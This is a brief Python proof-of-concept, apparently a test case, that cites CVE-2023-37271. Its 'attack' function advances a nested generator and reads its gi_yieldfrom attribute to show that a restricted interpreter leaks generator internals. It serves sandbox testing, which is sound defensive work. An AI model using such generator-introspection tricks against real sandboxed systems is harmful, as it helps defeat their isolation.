# A generator tells which one it waits for.
# after: interpreter
# source: CVE-2023-37271 (GHSA-wqc8-x2pr-7jqh)
def g():
    yield from h()
def h():
    yield 1
def attack(**_):
    gen = g()
    next(gen)
    return {"proof": str(gen.gi_yieldfrom)}
